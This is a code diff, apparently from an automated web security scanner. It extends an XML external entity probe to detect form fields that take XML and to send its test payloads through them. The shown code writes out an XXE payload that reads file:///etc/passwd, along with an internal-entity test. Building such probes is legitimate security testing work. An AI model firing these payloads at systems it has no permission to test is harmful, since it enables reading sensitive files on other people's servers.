@@ -1,7 +1,16 @@
 import { Canary } from '../canary.ts'
+import type { Operation } from '../operations.ts'
 import type { Probing } from '../probing.ts'
 import { isSuccess, type Reply } from '../reply.ts'
+import { withValue } from '../requests.ts'
 import { exchangesOf, trialOn } from '../trial-parts.ts'
+
+/** The field of a form that takes XML, by what it took or is given as an example. */
+function xmlFieldOf({ body }: Operation): string | undefined {
+  return Object.entries(body?.schema.properties ?? {}).find(
+    ([, { example }]) => typeof example === 'string' && example.startsWith('<'),
+  )?.[0]
+}
 
 /** XML with entities, where XML is taken at all. */
 export async function probeXmlEntities(probing: Probing): Promise<void> {
@@ -10,8 +19,11 @@ export async function probeXmlEntities(probing: Probing): Promise<void> {
       (operation) =>
         operation.method === 'POST' &&
         operation.purpose === 'other' &&
-        (/xml/i.test(operation.body?.contentType ?? '') || /xml|import|soap|feed/i.test(operation.path)),
+        (/xml/i.test(operation.body?.contentType ?? '') ||
+          /xml|import|soap|feed/i.test(operation.path) ||
+          xmlFieldOf(operation) !== undefined),
     )
+    .sort((a, b) => Number(xmlFieldOf(b) !== undefined) - Number(xmlFieldOf(a) !== undefined))
     .slice(0, 4)
   if (operations.length === 0) return void probing.notTried('xmlEntities', 'XML', 'no-data', 'no operation takes XML')
   const canary = await Canary.open()
@@ -19,14 +31,18 @@ export async function probeXmlEntities(probing: Probing): Promise<void> {
     for (const operation of operations) {
       const nonce = probing.values.nonce('entity', 14)
       const word = probing.values.nonce('entityword', 14)
+      const field = xmlFieldOf(operation)
+      const accepted = field === undefined ? null : await probing.takenBy(operation)
       const send = (body: string): Promise<Reply> =>
-        probing.send(probing.identities.userA, {
-          method: 'POST',
-          path: operation.path,
-          headers: { 'content-type': 'application/xml' },
-          body,
-          mayFail: true,
-        })
+        field !== undefined && accepted !== null
+          ? probing.sendDraft(accepted.session, withValue(accepted.draft, { in: 'body', name: field }, body), { mayFail: true })
+          : probing.send(probing.identities.userA, {
+              method: 'POST',
+              path: operation.path,
+              headers: { 'content-type': 'application/xml' },
+              body,
+              mayFail: true,
+            })
       const plain = await send(`<?xml version="1.0"?><root><name>${word}</name></root>`)
       const inside = await send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e "${word}x${word}">]><root><name>&e;</name></root>`)
       const file = await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
